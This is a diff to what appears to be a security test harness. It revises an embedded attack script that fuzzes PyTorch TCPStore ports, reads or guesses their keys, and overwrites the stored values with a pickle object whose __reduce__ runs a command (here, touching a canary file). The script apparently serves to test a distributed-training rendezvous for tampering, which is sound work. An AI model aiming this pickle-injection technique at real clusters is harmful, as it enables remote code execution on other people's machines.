@@ -28,7 +28,7 @@ for address in sys.argv[1].split():
             print("refused")
 """
 
-ATTACK = """
+ATTACK = '''
 import contextlib, os, pickle, socket, subprocess, sys, threading, time
 from datetime import timedelta
 from torch.distributed import TCPStore
@@ -40,12 +40,20 @@ class Command:
     def __reduce__(self):
         return subprocess.call, (["touch", canary],)
 
+def keys_of(store):
+    """PyTorch 2.14 lists what is in a store, 2.7 does not; these keys can be guessed."""
+    if hasattr(store, "list_keys"):
+        return store.list_keys()
+    round_id = store.get("meetings/round").split()[-1].decode()
+    guesses = ["machines/0", "machines/1", "machines/all", "meetings/round", f"meetings/{round_id}/rank 1 is present"]
+    return [key for key in guesses if store.check([key])]
+
 def attack(port):
     for content in (b"GET / HTTP/1.1\\r\\n\\r\\n", os.urandom(3000), bytes(100), b"", b"\\xff" * 3000):
         with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=5) as stranger:
             stranger.sendall(content)
     store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=5))
-    values = {key: store.get(key) for key in store.list_keys()}
+    values = {key: store.get(key) for key in keys_of(store)}
     signed.extend(value for key, value in values.items() if "meetings" in key)
     for number, key in enumerate(values):
         # what runs a command when it is unpickled, or what others wrote
@@ -60,7 +68,7 @@ for thread in threads:
     thread.join(max(0, end - time.monotonic()))
 print(len(found), len(signed), flush=True)
 os._exit(0)
-"""
+'''
 """Sends garbage to ports, and overwrites what the stores among them hold. Prints how many values they held, and how
 many of these were signed."""
 
